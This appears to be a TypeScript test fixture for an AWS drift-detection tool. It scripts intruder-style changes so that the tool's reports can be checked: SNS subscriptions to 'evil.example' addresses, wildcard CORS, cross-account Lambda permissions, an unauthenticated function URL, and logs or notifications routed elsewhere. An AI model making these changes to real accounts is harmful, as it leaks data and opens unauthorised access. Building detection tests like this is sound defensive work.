import {
  DeleteSubscriptionFilterCommand,
  PutSubscriptionFilterCommand,
} from "@aws-sdk/client-cloudwatch-logs";
import { CreateServiceCommand, DeleteServiceCommand } from "@aws-sdk/client-ecs";
import { PutTargetsCommand, RemoveTargetsCommand } from "@aws-sdk/client-eventbridge";
import {
  AddPermissionCommand,
  CreateAliasCommand,
  CreateFunctionUrlConfigCommand,
  DeleteAliasCommand,
  DeleteFunctionEventInvokeConfigCommand,
  DeleteFunctionUrlConfigCommand,
  PutFunctionEventInvokeConfigCommand,
  RemovePermissionCommand,
} from "@aws-sdk/client-lambda";
import {
  CreateBucketCommand,
  DeleteBucketCommand,
  DeleteBucketCorsCommand,
  DeleteBucketReplicationCommand,
  DeleteBucketWebsiteCommand,
  PutBucketCorsCommand,
  PutBucketLoggingCommand,
  PutBucketNotificationConfigurationCommand,
  PutBucketPolicyCommand,
  PutBucketReplicationCommand,
  PutBucketWebsiteCommand,
} from "@aws-sdk/client-s3";
import { CreateScheduleCommand, DeleteScheduleCommand } from "@aws-sdk/client-scheduler";
import { ListSubscriptionsByTopicCommand, SubscribeCommand, UnsubscribeCommand } from "@aws-sdk/client-sns";
import type { Clouds } from "./clouds";

/** AWS names of the resources to which somebody can add something. */
export interface Places {
  readonly bucket: string;
  readonly topicArn: string;
  readonly rule: string;
  readonly scheduleGroup: string;
  readonly logGroup: string;
  readonly taskDefinitionArn: string;
  readonly functionName: string;
  /** ARNs that an addition may reference. */
  readonly clusterArn: string;
  readonly roleArn: string;
}

/** Something that somebody adds outside of the stack, and that no resource of the aws provider reports. */
export interface Addition {
  readonly name: string;
  readonly by: string;
  add(clouds: Clouds, places: Places): Promise<unknown>;
  remove(clouds: Clouds, places: Places): Promise<unknown>;
  /** The line of the report: severity, identity and the start of its value. `$bucket` and the like are placeholders for the names. */
  readonly reports: string;
}

const subscribe = async (
  { sns }: Clouds,
  { topicArn: TopicArn }: Places,
  Protocol: string,
  Endpoint: string,
) => await sns.send(new SubscribeCommand({ TopicArn, Protocol, Endpoint }));
const unsubscribe = async ({ sns }: Clouds, { topicArn: TopicArn }: Places, endpoint: string) => {
  const { Subscriptions = [] } = await sns.send(new ListSubscriptionsByTopicCommand({ TopicArn }));
  for (const { SubscriptionArn, Endpoint } of Subscriptions) {
    if (Endpoint === endpoint) await sns.send(new UnsubscribeCommand({ SubscriptionArn }));
  }
};

const foreignBucket = "of-somebody-else";

/** AwsWatch reports these, an update does not change them, and they are accepted by name. */
export const additions: readonly Addition[] = [
  {
    name: "another address gets the alarms",
    by: "aws sns subscribe --protocol email",
    add: async (clouds, places) => await subscribe(clouds, places, "email", "somebody@evil.example"),
    remove: async (clouds, places) => await unsubscribe(clouds, places, "somebody@evil.example"),
    reports: "opens    topic subscription email somebody@evil.example: added: of account",
  },
  {
    name: "a webhook gets the alarms",
    by: "aws sns subscribe --protocol https",
    add: async (clouds, places) => await subscribe(clouds, places, "https", "https://evil.example/token"),
    remove: async (clouds, places) => await unsubscribe(clouds, places, "https://evil.example/token"),
    reports: "opens    topic subscription https https://evil.example/ ",
  },
  {
    name: "the rule for failed tasks has another target",
    by: "aws events put-targets",
    add: async ({ events }, { rule: Rule, topicArn }) =>
      await events.send(
        new PutTargetsCommand({ Rule, Targets: [{ Id: "by-hand", Arn: `${topicArn}-of-somebody-else` }] }),
      ),
    remove: async ({ events }, { rule: Rule }) =>
      await events.send(new RemoveTargetsCommand({ Rule, Ids: ["by-hand"] })),
    reports: "opens    event target $rule by-hand: added: $topicArn-of-somebody-else",
  },
  {
    name: "a schedule is added to the group",
    by: "aws scheduler create-schedule",
    add: async ({ schedules }, { scheduleGroup: GroupName, clusterArn, roleArn }) =>
      await schedules.send(
        new CreateScheduleCommand({
          GroupName,
          Name: "by-hand",
          ScheduleExpression: "rate(1 hour)",
          FlexibleTimeWindow: { Mode: "OFF" },
          Target: { Arn: clusterArn, RoleArn: roleArn },
        }),
      ),
    remove: async ({ schedules }, { scheduleGroup: GroupName }) =>
      await schedules.send(new DeleteScheduleCommand({ GroupName, Name: "by-hand" })),
    reports: "opens    schedule $scheduleGroup/by-hand: added: ENABLED, $clusterArn",
  },
  {
    name: "pages of another site may read the bucket",
    by: "aws s3api put-bucket-cors",
    add: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(
        new PutBucketCorsCommand({
          Bucket,
          CORSConfiguration: { CORSRules: [{ AllowedMethods: ["GET"], AllowedOrigins: ["*"] }] },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) => await s3.send(new DeleteBucketCorsCommand({ Bucket })),
    reports: "opens    bucket CORS $bucket: added: ",
  },
  {
    name: "the bucket is a website",
    by: "aws s3api put-bucket-website",
    add: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(
        new PutBucketWebsiteCommand({
          Bucket,
          WebsiteConfiguration: { IndexDocument: { Suffix: "index.html" } },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) => await s3.send(new DeleteBucketWebsiteCommand({ Bucket })),
    reports: 'opens    bucket website $bucket: added: {"IndexDocument":{"Suffix":"index.html"}}',
  },
  {
    name: "every new object is told to another topic",
    by: "aws s3api put-bucket-notification-configuration",
    add: async ({ s3 }, { bucket: Bucket, topicArn }) =>
      await s3.send(
        new PutBucketNotificationConfigurationCommand({
          Bucket,
          NotificationConfiguration: {
            TopicConfigurations: [
              { Id: "by-hand", TopicArn: `${topicArn}-of-somebody-else`, Events: ["s3:ObjectCreated:*"] },
            ],
          },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: {} })),
    reports: "opens    bucket notification $bucket: added: ",
  },
  {
    name: "every backup is copied to another bucket",
    by: "aws s3api put-bucket-replication",
    add: async ({ s3 }, { bucket: Bucket, roleArn }) =>
      await s3.send(
        new PutBucketReplicationCommand({
          Bucket,
          ReplicationConfiguration: {
            Role: roleArn,
            Rules: [
              {
                ID: "by-hand",
                Priority: 1,
                Status: "Enabled",
                Filter: { Prefix: "" },
                DeleteMarkerReplication: { Status: "Disabled" },
                Destination: { Bucket: `arn:aws:s3:::${Bucket}` },
              },
            ],
          },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(new DeleteBucketReplicationCommand({ Bucket })),
    reports: "opens    bucket replication $bucket: added: ",
  },
  {
    name: "every access to a backup is logged for somebody else",
    by: "aws s3api put-bucket-logging",
    add: async ({ s3 }, { bucket }) => {
      await s3.send(new CreateBucketCommand({ Bucket: foreignBucket }));
      const Statement = {
        Effect: "Allow",
        Principal: { Service: "logging.s3.amazonaws.com" },
        Action: ["s3:PutObject"],
        Resource: `arn:aws:s3:::${foreignBucket}/*`,
      };
      const Policy = JSON.stringify({ Version: "2012-10-17", Statement: [Statement] });
      await s3.send(new PutBucketPolicyCommand({ Bucket: foreignBucket, Policy }));
      const LoggingEnabled = { TargetBucket: foreignBucket, TargetPrefix: "by-hand/" };
      await s3.send(new PutBucketLoggingCommand({ Bucket: bucket, BucketLoggingStatus: { LoggingEnabled } }));
    },
    remove: async ({ s3 }, { bucket }) => {
      await s3.send(new PutBucketLoggingCommand({ Bucket: bucket, BucketLoggingStatus: {} }));
      await s3.send(new DeleteBucketCommand({ Bucket: foreignBucket }));
    },
    reports: "opens    bucket logging $bucket: added: ",
  },
  {
    name: "the log of the backups is sent elsewhere",
    by: "aws logs put-subscription-filter",
    add: async ({ logs }, { logGroup: logGroupName, topicArn }) =>
      await logs.send(
        new PutSubscriptionFilterCommand({
          logGroupName,
          filterName: "by-hand",
          filterPattern: "",
          destinationArn: `${topicArn.split(":").slice(0, 2).join(":")}:logs:${topicArn.split(":").slice(3, 5).join(":")}:log-group:${logGroupName}:*`,
        }),
      ),
    remove: async ({ logs }, { logGroup: logGroupName }) =>
      await logs.send(new DeleteSubscriptionFilterCommand({ logGroupName, filterName: "by-hand" })),
    reports: "opens    log subscription $logGroup by-hand: added: arn:aws:logs:",
  },
  ...["events.amazonaws.com", "210987654321"].map((Principal, index) => ({
    name: `${Principal} may call the probe, whose answers say how the database is`,
    by: "aws lambda add-permission",
    add: async ({ lambda }: Clouds, { functionName: FunctionName }: Places) =>
      await lambda.send(
        new AddPermissionCommand({
          ...{ FunctionName, Principal, StatementId: `by-hand-${index}`, Action: "lambda:InvokeFunction" },
        }),
      ),
    remove: async ({ lambda }: Clouds, { functionName: FunctionName }: Places) =>
      await lambda.send(new RemovePermissionCommand({ FunctionName, StatementId: `by-hand-${index}` })),
    reports: `opens    function permission $functionName by-hand-${index}: added: `,
  })),
  {
    name: "the probe gets an address of its own, without a login",
    by: "aws lambda create-function-url-config --auth-type NONE",
    add: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new CreateFunctionUrlConfigCommand({ FunctionName, AuthType: "NONE" })),
    remove: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new DeleteFunctionUrlConfigCommand({ FunctionName })),
    reports: "opens    function URL $functionName: added: auth NONE",
  },
  {
    name: "the probe gets an alias, which has its own permissions and URL",
    by: "aws lambda create-alias --function-version '$LATEST'",
    add: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(
        new CreateAliasCommand({ FunctionName, Name: "by-hand", FunctionVersion: "$LATEST" }),
      ),
    remove: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new DeleteAliasCommand({ FunctionName, Name: "by-hand" })),
    reports: "opens    function alias $functionName by-hand: added: version",
  },
  {
    name: "what the probe answers is sent to another topic",
    by: "aws lambda put-function-event-invoke-config --destination-config",
    add: async ({ lambda }, { functionName: FunctionName, topicArn }) =>
      await lambda.send(
        new PutFunctionEventInvokeConfigCommand({
          FunctionName,
          DestinationConfig: { OnSuccess: { Destination: topicArn } },
        }),
      ),
    remove: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new DeleteFunctionEventInvokeConfigCommand({ FunctionName })),
    reports: "opens    function destination $functionName on success: added: $topicArn",
  },
  {
    name: "a service runs the task all day",
    by: "aws ecs create-service",
    add: async ({ ecs }, { clusterArn: cluster, taskDefinitionArn: taskDefinition }) =>
      await ecs.send(
        new CreateServiceCommand({ cluster, serviceName: "by-hand", taskDefinition, desiredCount: 0 }),
      ),
    remove: async ({ ecs }, { clusterArn: cluster }) =>
      await ecs.send(new DeleteServiceCommand({ cluster, service: "by-hand", force: true })),
    reports: "opens    cluster service by-hand: added: arn:aws:ecs:",
  },
];

/** Returns the line of an addition with these names filled in. */
export function lineFor({ reports }: Addition, places: Places): string {
  return reports.replaceAll(/\$(\w+)/g, (_, name: string) => places[name as keyof Places]);
}
